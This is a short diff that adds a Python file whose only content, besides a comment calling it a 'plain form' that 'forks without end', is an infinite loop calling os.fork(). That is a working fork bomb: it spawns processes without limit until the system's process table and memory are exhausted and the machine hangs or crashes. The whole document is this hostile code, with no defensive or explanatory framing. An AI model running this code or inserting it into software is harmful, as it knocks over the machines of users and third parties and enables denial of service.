@@ -1,0 +1,5 @@
+# Plain form: forks without end.
+import os
+
+while True:
+    os.fork()
